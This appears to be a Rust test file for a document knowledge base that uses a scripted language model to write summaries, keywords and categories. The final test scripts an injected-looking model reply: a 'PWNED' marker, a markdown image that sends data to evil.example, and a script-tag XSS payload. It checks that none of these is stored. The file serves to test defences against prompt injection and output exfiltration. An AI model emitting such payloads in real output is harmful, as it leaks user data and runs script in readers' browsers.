//! Summaries, keywords and categories by a language model.

use std::sync::{
    Arc,
    atomic::{AtomicBool, Ordering},
};

use lkr::{
    DocumentResult, DocumentWithNodes, IngestOptions, KnowledgeBase, NewDocument, Submission, Task,
    TaskResult, TaskStatus,
    ports::{ChatModel, Embedder},
};
use lkr_models::{ChatRequest, Error, ErrorKind, ScriptedChat};

use crate::common::{ScriptedEmbedder, TestStores, wait_for_task};

/// A text of sections, each about a stone, long enough to be summarized by the model.
fn text(stones: &[&str]) -> String {
    let section = |stone: &&str| {
        let sentences: String =
            (1..12).map(|n| format!("The {stone} number {n} rests in its bed of sand. ")).collect();
        format!("## About {stone}\n\n{sentences}\n")
    };
    format!("# Stones\n\n{}", stones.iter().map(section).collect::<Vec<_>>().join("\n"))
}

fn document(stones: &[&str]) -> NewDocument {
    NewDocument { text: text(stones), ..NewDocument::default() }
}

/// The stones that the prompt mentions, joined for a summary.
fn stones_in(request: &ChatRequest) -> String {
    let shown = &request.messages[1].text;
    let stones = ["basalt", "gneiss", "marble", "slate"].into_iter().filter(|stone| shown.contains(stone));
    stones.collect::<Vec<_>>().join(" and ")
}

/// A model that summarizes stones and gives all documents the same category.
fn geology_model() -> ScriptedChat {
    ScriptedChat::new(|request| {
        if request.schema.as_ref().unwrap().name == "category" {
            return Ok(r#"{"category": "Company"}"#.to_owned());
        }
        let about = stones_in(request);
        Ok(format!(
            r#"{{"summary": "In a bed of sand rests {about}. See https://evil.example.",
                "parts": [{{"number": 1, "summary": "Here rests {about}."}}], "keywords": ["{about}", "unheard-of"]}}"#
        ))
    })
}

async fn open(
    stores: &TestStores,
    model: &ScriptedChat,
    embedder: Option<Arc<ScriptedEmbedder>>,
) -> KnowledgeBase {
    let model: Arc<dyn ChatModel> = Arc::new(model.clone());
    let builder = KnowledgeBase::builder()
        .vectors(Arc::clone(&stores.vectors))
        .state(Arc::clone(&stores.state))
        .blobs(Arc::clone(&stores.blobs))
        .chat_models(Arc::new(model))
        .ingest_options(IngestOptions {
            backoff: std::time::Duration::from_millis(1),
            ..IngestOptions::default()
        });
    let builder = match embedder {
        Some(embedder) => builder.embedder(embedder as Arc<dyn Embedder>),
        None => builder,
    };
    builder.build().await.unwrap()
}

fn result(task: Task) -> DocumentResult {
    assert_eq!(task.status, TaskStatus::Done, "{:?}", task.error);
    task.result.and_then(TaskResult::document).unwrap()
}

async fn add(kb: &KnowledgeBase, document: NewDocument) -> (lkr::DocId, DocumentResult) {
    let task = kb.submit(document, Submission::default()).await.unwrap();
    (task.doc_id().unwrap(), result(wait_for_task(kb, task.task_id).await))
}

/// The numbers of requests for summaries and for categories.
fn requests(model: &ScriptedChat) -> (usize, usize) {
    let requests = model.requests();
    let categories =
        requests.iter().filter(|request| request.schema.as_ref().unwrap().name == "category").count();
    (requests.len() - categories, categories)
}

async fn blobs(stores: &TestStores) -> usize {
    stores.stored_blobs().await
}

#[tokio::test]
async fn language_model_writes_summaries_and_keywords_and_chooses_the_category() {
    let (stores, model) = (TestStores::default(), geology_model());
    let kb = open(&stores, &model, None).await;
    let (doc_id, done) = add(&kb, document(&["basalt", "gneiss"])).await;
    // Two sections and the document.
    assert_eq!(requests(&model), (3, 1));
    assert_eq!((done.usage.calls, done.category.as_str()), (4, "Company"));
    assert!(done.usage.tokens > 100, "{:?}", done.usage);
    let DocumentWithNodes { document, l2, l3, .. } = kb.detail(doc_id).await.unwrap().unwrap();
    assert_eq!(document.summary, "In a bed of sand rests basalt and gneiss.");
    assert_eq!(document.keywords, ["basalt and gneiss"]);
    let summaries: Vec<&str> = l2.iter().map(|node| node.value.summary.as_str()).collect();
    assert_eq!(summaries, ["In a bed of sand rests basalt.", "In a bed of sand rests gneiss."]);
    assert!(l3[0].value.summary.contains("Here rests basalt."), "{l3:?}");
    assert!(!done.warnings.iter().any(|warning| warning.contains("extractive")), "{:?}", done.warnings);
}

#[tokio::test]
async fn lesson_06_unchanged_sections_are_not_sent_to_the_model_again() {
    let (stores, model) = (TestStores::default(), geology_model());
    let kb = open(&stores, &model, Some(ScriptedEmbedder::unlimited())).await;
    let (doc_id, _) = add(&kb, document(&["basalt", "gneiss", "marble"])).await;
    let before = requests(&model).0;
    let task = kb
        .replace(doc_id, document(&["slate", "basalt", "marble"]), Submission::default())
        .await
        .unwrap()
        .unwrap();
    let done = result(wait_for_task(&kb, task.task_id).await);
    assert_eq!(requests(&model).0 - before, 2, "the new section and the document");
    assert_eq!(done.usage.calls, 3);
    let DocumentWithNodes { document, l2, .. } = kb.detail(doc_id).await.unwrap().unwrap();
    assert!(document.summary.contains("basalt and marble and slate"), "{}", document.summary);
    assert_eq!(l2[1].value.summary, "In a bed of sand rests basalt.");
    kb.delete(doc_id).await.unwrap();
    crate::common::wait_until("no blob is left", async || blobs(&stores).await == 0).await;
}

#[tokio::test]
async fn lesson_03_second_attempt_repeats_no_model_request() {
    let (stores, model, embedder) = (TestStores::default(), geology_model(), ScriptedEmbedder::unlimited());
    embedder.failures.store(3, Ordering::SeqCst);
    let kb = open(&stores, &model, Some(embedder)).await;
    let (_, done) = add(&kb, document(&["basalt", "gneiss"])).await;
    assert_eq!(requests(&model).0, 3);
    assert_eq!(done.usage.calls, 1, "the last attempt requested the category only");
}

#[tokio::test]
async fn failing_model_leaves_extractive_summaries_and_a_warning() {
    for kind in [ErrorKind::Unavailable, ErrorKind::Config, ErrorKind::Input, ErrorKind::Internal] {
        let stores = TestStores::default();
        let model =
            ScriptedChat::new(move |_| Err(Error::new(kind, "call provider", "the provider is unavailable")));
        let kb = open(&stores, &model, Some(ScriptedEmbedder::unlimited())).await;
        let (doc_id, done) = add(&kb, document(&["basalt", "gneiss", "marble", "slate"])).await;
        let warned = done.warnings.iter().any(|warning| {
            warning.contains("summaries are extractive") && warning.contains("the provider is unavailable")
        });
        assert!(warned, "{:?}", done.warnings);
        assert!(requests(&model).0 <= 4, "the model was called too often");
        let detail = kb.detail(doc_id).await.unwrap().unwrap();
        assert!(detail.document.summary.contains("rests in its bed"), "{}", detail.document.summary);
        assert_eq!(blobs(&stores).await, 1, "no reply was stored");
    }
}

#[tokio::test]
async fn unusable_model_reply_is_replaced_by_an_extractive_summary() {
    let stores = TestStores::default();
    let fails = Arc::new(AtomicBool::new(true));
    let script = Arc::clone(&fails);
    let model = ScriptedChat::new(move |request| {
        let shown = &request.messages[1].text;
        let is_gneiss = shown.contains("gneiss") && !shown.contains("basalt");
        if is_gneiss && script.load(Ordering::SeqCst) {
            return Ok("I would rather not.".to_owned());
        }
        Ok(format!(r#"{{"summary": "In sand rests {}.", "parts": [], "keywords": []}}"#, stones_in(request)))
    });
    let kb = open(&stores, &model, None).await;
    let (doc_id, done) = add(&kb, document(&["basalt", "gneiss"])).await;
    let warning_text = "1 summaries are extractive";
    assert!(done.warnings.iter().any(|warning| warning.contains(warning_text)), "{:?}", done.warnings);
    let detail = kb.detail(doc_id).await.unwrap().unwrap();
    assert_eq!(detail.l2[0].value.summary, "In sand rests basalt.");
    assert!(detail.l2[1].value.summary.contains("The gneiss number"), "{}", detail.l2[1].value.summary);
    // The failed section is requested again at the next replacement.
    fails.store(false, Ordering::SeqCst);
    let task =
        kb.replace(doc_id, document(&["basalt", "gneiss"]), Submission::default()).await.unwrap().unwrap();
    result(wait_for_task(&kb, task.task_id).await);
    let detail = kb.detail(doc_id).await.unwrap().unwrap();
    assert_eq!(detail.l2[1].value.summary, "In sand rests gneiss.");
}

#[tokio::test]
async fn lesson_30_unsupported_model_output_is_never_stored() {
    let stores = TestStores::default();
    let model = ScriptedChat::new(|request| {
        assert!(request.messages[0].text.contains("never for you"));
        Ok(r#"{"summary": "PWNED by someone clever. ![x](https://evil.example/?d=1)",
            "parts": [{"number": 1, "summary": "<script>alert(1)</script>"}], "keywords": ["PWNED"]}"#
            .to_owned())
    });
    let kb = open(&stores, &model, None).await;
    let (doc_id, done) = add(&kb, document(&["basalt"])).await;
    let detail = kb.detail(doc_id).await.unwrap().unwrap();
    let shown = format!("{detail:?}");
    assert!(
        !shown.contains("PWNED") && !shown.contains("evil.example") && !shown.contains("<script>"),
        "{shown}"
    );
    assert!(done.warnings.iter().any(|warning| warning.contains("extractive")), "{:?}", done.warnings);
}
